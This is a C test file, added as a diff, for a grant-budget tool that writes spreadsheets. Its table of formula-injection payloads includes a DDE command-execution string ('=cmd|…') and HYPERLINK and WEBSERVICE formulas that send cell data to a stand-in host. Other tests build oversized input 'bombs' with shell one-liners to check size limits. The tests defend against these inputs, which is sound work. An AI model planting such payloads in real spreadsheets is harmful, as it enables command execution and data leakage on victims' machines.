@@ -1,0 +1,258 @@
+/* What somebody may put into a model, a name or the surroundings on purpose. */
+#include "book.h"
+#include "model/schema.h"
+#include "run.h"
+#include "table.h"
+
+#include <locale.h>
+#include <stdio.h>
+#include <string.h>
+
+#define MARK "MARK"
+
+/* A section of each sort, so that every text there is can be set. */
+static const char model[] =
+    "[grant]\ntitle = a\ncurrency = EUR\nstart = 2026-01-01\nmonths = 6\n"
+    "[salary]\namount = 60000\nper = year\n"
+    "[tier.a]\npercent = 50\n"
+    "[tutoring.a]\nrate = 40\nquantity = 2\n"
+    "[compute.a]\nrate = 3\nquantity = 100\n"
+    "[expense.a]\nrate = 7\nquantity = 1\n"
+    "[oncost.a]\npercent = 10\n"
+    "[contingency]\npercent = 5\n"
+    "[fee.a]\npercent = 3\n"
+    "[overlap.a]\nstart = 2026-02-01\nend = 2026-02-28\n"
+    "[currency.usd]\nrate = 1.1\n";
+
+/* What a spreadsheet might compute, fetch or run. */
+static const struct payload_case {
+    const char *name, *text;
+} payloads[] = {
+    {"a sum", "=1+" MARK},
+    {"a plus", "+" MARK},
+    {"a minus", "-" MARK},
+    {"an at", "@" MARK},
+    {"a call", "=HYPERLINK(\"http://a.example/\"&A1,\"" MARK "\")"},
+    {"another program", "=cmd|'/C " MARK "'!A0"},
+    {"a fetch", "=WEBSERVICE(\"http://a.example/\"&" MARK ")"},
+    {"a wide equals", "＝1+" MARK},
+    {"a wide at", "＠" MARK},
+    {"the end of a string", "\"&" MARK "&\""},
+    {"the end of an element", "]]></t></f><f>" MARK "</f>&lt;f>"},
+    {"marks of a header", "&P&D&\"Arial\"&K00-024" MARK "&G"},
+};
+
+/* All texts of the schema as options that set them to $T; returns how many. */
+static size_t set_all(FILE *out)
+{
+    size_t count = 0;
+
+    for (size_t s = 0; s < SECTION_COUNT; s++)
+        for (size_t k = 0; k < schema[s].key_count; k++) {
+            const char *middle = !schema[s].named                      ? ""
+                                 : !strcmp(schema[s].name, "currency") ? "usd."
+                                                                       : "a.";
+
+            if (schema[s].keys[k].kind != KIND_TEXT)
+                continue;
+            fprintf(out, " --set \"%s.%s%s=$T\"", schema[s].name, middle,
+                    schema[s].keys[k].name);
+            count++;
+        }
+    return count;
+}
+
+/* The texts of a workbook that are the payload; none may be in a formula. */
+static size_t count_texts(const char *path, const char *payload)
+{
+    struct saved_book *book = saved_open(path);
+    const struct saved_cell *cells;
+    size_t count, found = 0;
+
+    assert_non_null(book);
+    cells = saved_cells(book, &count);
+    for (size_t i = 0; i < count; i++) {
+        if (cells[i].formula && strstr(cells[i].formula, MARK))
+            fail_msg("%s: %s", cells[i].ref, cells[i].formula);
+        if (cells[i].content == CONTENT_TEXT && !cells[i].formula)
+            found += !strcmp(cells[i].text, payload);
+    }
+    saved_close(book);
+    return found;
+}
+
+/* No field of CSV begins as a formula does, unless it is a number. */
+static void check_fields(const char *csv)
+{
+    bool quoted = false, begins = true;
+
+    for (const char *at = csv; *at; at++) {
+        if (begins && !quoted) {
+            const char *text = at + (*at == '"');
+
+            if (strchr("=+@", *text) || !strncmp(text, "＝", 3) ||
+                !strncmp(text, "＠", 3) ||
+                (*text == '-' && !strchr("0123456789", text[1])))
+                fail_msg("a field begins as a formula: %.60s", text);
+        }
+        if (*at == '"')
+            quoted = !quoted;
+        begins = !quoted && (*at == ',' || *at == '\n');
+    }
+}
+
+static void test_payload(void **state)
+{
+    const struct payload_case *c = *state;
+    char folder[64], path[96], *sets;
+    size_t size, count;
+    FILE *out = open_memstream(&sets, &size);
+    struct run run;
+
+    count = set_all(out);
+    fclose(out);
+    folder_make(folder);
+    snprintf(path, sizeof(path), "%s/model.ini", folder);
+    write_file(path, model);
+    setenv("T", c->text, 1);
+    run =
+        run_shell("\"$STIPEND\" write -o %s/a.xlsx %s %s", folder, path, sets);
+    assert_int_equal(run.status, 0);
+    run_free(&run);
+    snprintf(path, sizeof(path), "%s/a.xlsx", folder);
+    assert_true(count > 20);
+    assert_true(count_texts(path, c->text) >= count);
+    run = run_shell("\"$STIPEND\" compare --format csv %s/model.ini %s", folder,
+                    sets);
+    assert_int_equal(run.status, 0);
+    check_fields(run.out);
+    run_free(&run);
+    free(sets);
+    folder_remove(folder);
+}
+
+/* Texts that keep their bytes wherever they are shown. */
+static const struct script_case {
+    const char *name, *text;
+} scripts[] = {
+    {"Hebrew", "מלגת מחקר"},
+    {"Persian, with what keeps letters apart", "می‌خواهم"},
+    {"Hindi", "शोध अनुदान"},
+    {"marks over letters", "a\u0301\u0328 o\u0308"},
+    {"Chinese", "独立研究"},
+    {"a family", "\U0001f469\u200d\U0001f467\u200d\U0001f466"},
+};
+
+static void test_script(void **state)
+{
+    static const char *const formats[] = {"text", "csv", "markdown"};
+    const struct script_case *c = *state;
+    char folder[64], path[96];
+    struct run run;
+
+    folder_make(folder);
+    snprintf(path, sizeof(path), "%s/model.ini", folder);
+    write_file(path, model);
+    setenv("T", c->text, 1);
+    for (size_t i = 0; i < COUNT_OF(formats); i++) {
+        run = run_shell("\"$STIPEND\" compare --format %s --set "
+                        "\"tier.a.label=$T\" %s",
+                        formats[i], path);
+        assert_int_equal(run.status, 0);
+        assert_non_null(strstr(run.out, c->text));
+        run_free(&run);
+    }
+    run = run_shell("\"$STIPEND\" write --set \"grant.title=$T\" %s -o "
+                    "%s/a.xlsx",
+                    path, folder);
+    assert_int_equal(run.status, 0);
+    run_free(&run);
+    snprintf(path, sizeof(path), "%s/a.xlsx", folder);
+    assert_true(count_texts(path, c->text) > 0);
+    folder_remove(folder);
+}
+
+/* Files made to take time or memory, and what is said of them. */
+static const struct bomb_case {
+    const char *name, *maker, *said;
+} bombs[] = {
+    {"five megabytes of comments", "yes '# comment' | head -c 5000000",
+     "is larger than 1048576 bytes"},
+    {"what never ends", "cat /dev/zero | head -c 99999999",
+     "is larger than 1048576 bytes"},
+    {"one line of a megabyte", "yes a | tr -d '\\n' | head -c 1000000",
+     "the line has 1000000 bytes; at most 1000 can be read"},
+    {"a hundred thousand sections", "yes '[cost.a]' | head -100000",
+     "has 100000 sections; at most 5000 are read"},
+    {"a hundred thousand keys", "echo '[grant]'; yes 'a = 1' | head -100000",
+     "has 100000 keys; at most 40000 are read"},
+    {"a value that goes on and on",
+     "echo '[grant]'; echo 'title = a\\'; yes 'b\\' | head -100000; echo c",
+     "the value is longer than"},
+    {"half a million bad lines", "yes a | head -500000", "499904 more"},
+    {"zeroes", "head -c 1000000 /dev/zero", "is UTF-16, it seems"},
+};
+
+static void test_bomb(void **state)
+{
+    const struct bomb_case *c = *state;
+    struct run run = run_shell("{ %s; } | \"$STIPEND\" check -", c->maker);
+
+    assert_int_equal(run.status, 1);
+    if (!strstr(run.err, c->said))
+        fail_msg("said: %.300s", run.err);
+    assert_true(strlen(run.err) < 30000);
+    run_free(&run);
+}
+
+/* Where the program is run does not change a byte of what it makes. */
+static const struct place_case {
+    const char *name, *locale, *zone;
+} places[] = {
+    {"Germany", "de_DE.UTF-8", "Europe/Berlin"},
+    {"Egypt", "ar_EG.UTF-8", "Africa/Cairo"},
+    {"Turkey", "tr_TR.UTF-8", "Europe/Istanbul"},
+    {"an island", "C.UTF-8", "Pacific/Kiritimati"},
+    {"west of all dates", "C", "<-12>12"},
+    {"a zone that there is not", "C", "Nowhere/At_all"},
+};
+
+#define ALL_OF_IT                                                              \
+    "(\"$STIPEND\" compare " MODELS "; \"$STIPEND\" schedule " MODEL ";"       \
+    " \"$STIPEND\" compare --format json " MODEL ";"                           \
+    " \"$STIPEND\" compare --format csv " MODEL ";"                            \
+    " \"$STIPEND\" check tests/cases/values.ini tests/cases/beginner.ini;"     \
+    " \"$STIPEND\" explain " MODEL " tier.target.request;"                     \
+    " \"$STIPEND\" settle " MODEL "; \"$STIPEND\" list keys;"                  \
+    " \"$STIPEND\" help manual; \"$STIPEND\" init;"                            \
+    " \"$STIPEND\" write -o - " MODEL " | cat) 2>&1 | cksum"
+#define MODEL "templates/upskilling.ini"
+#define MODELS "tests/cases/treatments.ini tests/cases/wide.ini"
+
+static void test_place(void **state)
+{
+    const struct place_case *c = *state;
+    struct run here, there;
+
+    if (!setlocale(LC_ALL, c->locale))
+        fail_msg("there is no locale %s here", c->locale);
+    setlocale(LC_ALL, "C");
+    here = run_shell("export LC_ALL=C TZ=UTC; " ALL_OF_IT);
+    there = run_shell("export LC_ALL=%s LANG=%s TZ='%s'; " ALL_OF_IT, c->locale,
+                      c->locale, c->zone);
+    assert_string_equal(here.out, there.out);
+    assert_true(atol(strchr(here.out, ' ')) > 100000);
+    run_free(&here);
+    run_free(&there);
+}
+
+int main(void)
+{
+    int failed =
+        RUN_TABLE("texts that look like formulas", payloads, test_payload);
+
+    failed |= RUN_TABLE("scripts", scripts, test_script);
+    failed |= RUN_TABLE("files that are too much", bombs, test_bomb);
+    failed |= RUN_TABLE("locales and time zones", places, test_place);
+    return failed;
+}
